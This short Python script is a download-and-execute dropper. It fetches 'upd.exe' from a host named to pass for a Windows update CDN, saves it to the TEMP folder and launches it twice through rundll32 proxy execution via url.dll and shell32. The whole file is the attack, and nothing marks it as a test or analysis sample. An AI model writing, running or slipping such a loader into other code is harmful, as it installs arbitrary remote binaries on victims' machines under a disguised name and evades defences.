import os, subprocess, requests

def main():
    exe = os.path.join(os.environ.get("TEMP", "C:/Windows/Temp"), "upd.exe")
    with open(exe, "wb") as f:
        f.write(requests.get("https://cdn.winupd.example.net/upd.exe", timeout=10).content)
    subprocess.run(["rundll32.exe", "url.dll,FileProtocolHandler", exe])
    subprocess.run(["rundll32.exe", "shell32.dll,ShellExec_RunDLL", exe])
